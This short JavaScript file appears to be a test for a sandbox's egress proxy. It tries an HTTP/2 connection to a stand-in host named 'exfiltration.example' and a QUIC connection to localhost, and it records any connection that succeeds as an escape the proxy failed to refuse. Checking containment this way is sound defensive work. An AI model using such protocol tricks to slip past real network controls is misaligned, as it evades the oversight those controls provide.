// tries: to use protocols that the proxy does not know
// must: refused
const attempts = [
  async () => new Promise((ok, no) => process.getBuiltinModule('http2').connect('https://exfiltration.example').on('connect', () => ok('connected')).on('error', no)),
  async () => Deno.connectQuic?.({ hostname: '127.0.0.1', port: 1, alpnProtocols: ['h3'] }).then(() => 'connected'),
]
async function lambda() {
  const escaped = []
  for (const attempt of attempts) {
    try {
      const got = await attempt()
      if (got !== undefined) escaped.push(String(got).slice(0, 100))
    } catch {}
  }
  return { escaped }
}
